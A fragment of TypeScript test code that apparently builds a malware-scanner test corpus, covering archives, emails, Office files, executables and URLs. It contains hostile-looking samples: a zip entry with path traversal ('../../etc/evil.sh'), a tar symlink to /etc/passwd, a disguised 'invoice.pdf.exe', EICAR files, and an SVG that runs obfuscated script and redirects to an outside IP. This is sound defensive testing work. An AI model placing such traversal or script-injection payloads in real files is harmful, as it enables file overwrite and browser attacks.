    { name: 'xz', file: 'readme.txt.xz', kind: 'file', data: read('readme.txt.xz') },
    { name: 'bzip2', file: 'readme.txt.bz2', kind: 'file', data: read('readme.txt.bz2') },
  ];
}

/** Every seed, built in `dir` (a private temporary folder). */
export async function buildSeeds(dir: string): Promise<Seed[]> {
  const text = (s: string) => Buffer.from(s, 'utf8');
  const office = await officeSeeds();
  const scripts: Seed[] = SCRIPTS.map(([name, file, body]) => ({ name, file, kind: 'file', data: text(body) }));
  const script = (n: string) => scripts.find((s) => s.name === n)!.data;
  const inner = zipArchive([['payload.js', script('script-js')], ['eicar.com', eicar()]]);
  const zip = zipArchive([
    ['readme.txt', text(PII)],
    ['docs/invoice.pdf.exe', minimalPe()],
    ['../../etc/evil.sh', script('script-sh')],
    ['nested/inner.zip', inner],
    ['page.html', text(HTML)],
  ]);
  const tar = tarArchive([
    { name: 'dir/', type: '5' },
    { name: 'dir/readme.txt', data: text(PII) },
    { name: 'dir/run.bat', data: script('script-bat') },
    { name: 'dir/link', type: '2', link: '/etc/passwd' },
    { name: 'dir/hard', type: '1', link: 'dir/readme.txt' },
    { name: 'dir/inner.zip', data: inner },
  ]);
  const members: [string, Buffer][] = [['readme.txt', text(PII)], ['run.bat', script('script-bat')], ['invoice.zip', inner]];
  return [
    { name: 'zip', file: 'bundle.zip', kind: 'file', data: zip },
    { name: 'zip-aes', file: 'secret.zip', kind: 'file', data: await makeZip({ 'invoice.js': script('script-js'), 'eicar.com': eicar() }, { password: 'infected' }) },
    { name: 'zip-zipcrypto', file: 'legacy.zip', kind: 'file', data: await makeZip({ 'run.bat': script('script-bat') }, { password: 'infected', zipCrypto: true }) },
    { name: 'tar', file: 'bundle.tar', kind: 'file', data: tar },
    { name: 'tar-gz', file: 'bundle.tar.gz', kind: 'file', data: zlib.gzipSync(tar) },
    { name: 'gzip-headers', file: 'page.html.gz', kind: 'file', data: gzipWithHeaders(text(HTML), 'page.html') },
    ...debianSeeds(dir, members),
    ...office,
    { name: 'html', file: 'login.html', kind: 'file', data: text(HTML) },
    { name: 'svg', file: 'image.svg', kind: 'file', data: text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>eval(atob("YWxlcnQoMSk="));location.href="https://203.0.113.4/x"</script><a href="javascript:alert(1)"><text>x</text></a></svg>`) },
    ...scripts,
    { name: 'text-pii', file: 'export.txt', kind: 'file', data: text(PII) },
    { name: 'email', file: 'message.eml', kind: 'file', data: emailSeed(zip) },
    { name: 'mbox', file: 'inbox.mbox', kind: 'file', data: mboxSeed(emailSeed(inner)) },
    { name: 'outlook-msg', file: 'invoice.msg', kind: 'file', data: await msgSeed(inner) },
    { name: 'tnef', file: 'winmail.dat', kind: 'file', data: tnefSeed(inner, 'invoice.zip') },
    { name: 'pe', file: 'setup.exe', kind: 'file', data: minimalPe() },
    { name: 'elf', file: 'tool', kind: 'file', data: minimalElf() },
    ...URLS.map((u, i): Seed => ({ name: `url-${i + 1}`, file: u, kind: 'url', data: text(u) })),
  ];
}
